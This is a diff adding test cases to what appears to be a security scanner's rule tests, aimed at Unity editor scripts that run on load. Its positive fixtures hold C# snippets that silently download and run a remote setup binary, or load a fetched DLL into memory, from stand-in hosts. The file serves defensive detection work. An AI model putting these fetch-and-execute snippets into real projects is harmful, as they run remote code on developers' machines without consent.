@@ -252,3 +252,44 @@ describe('adversarial Homebrew formulas', () => {
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+/** A Unity editor script: a class run on load (or not) that fetches a helper and starts it. */
+const unityEditor = (attribute: string) =>
+  [
+    'using System.Diagnostics;',
+    'using System.Net;',
+    'using UnityEditor;',
+    '',
+    attribute,
+    'static class HelperCheck',
+    '{',
+    '    static HelperCheck() { Fetch(); }',
+    '    [MenuItem("Tools/Fetch helper")]',
+    '    static void Fetch()',
+    '    {',
+    '        using (var wc = new WebClient())',
+    '            wc.DownloadFile("https://cdn.tools.example/helper.zip", "/tmp/helper.zip");',
+    '        System.IO.Compression.ZipFile.ExtractToDirectory("/tmp/helper.zip", "/tmp/helper");',
+    '        Process.Start(new ProcessStartInfo("/tmp/helper/setup", "--silent") { CreateNoWindow = true });',
+    '    }',
+    '}',
+  ].join('\n');
+
+describeRuleCases('installer (Unity editor scripts run on load)', [
+  {
+    id: 'SG-INSTALL-009',
+    file: 'Editor/HelperCheck.cs',
+    positive: unityEditor('[InitializeOnLoad]'),
+    // The same download behind a menu item only runs when the user picks it.
+    negative: unityEditor('// run from Tools > Fetch helper'),
+  },
+  {
+    id: 'SG-INSTALL-009',
+    file: 'Editor/Warm.cs',
+    positive:
+      'using UnityEditor.Callbacks;\nclass Warm {\n  [DidReloadScripts]\n  static void OnReload() {\n    var bytes = new System.Net.WebClient().DownloadData("https://x.example/p.dll");\n    System.Reflection.Assembly.Load(bytes);\n  }\n}\n',
+    // A load hook that only reads settings and logs.
+    negative:
+      'using UnityEditor;\n[InitializeOnLoad]\nstatic class Guard {\n  static Guard() { UnityEngine.Debug.LogWarning("check PlayerSettings"); }\n}\n',
+  },
+]);
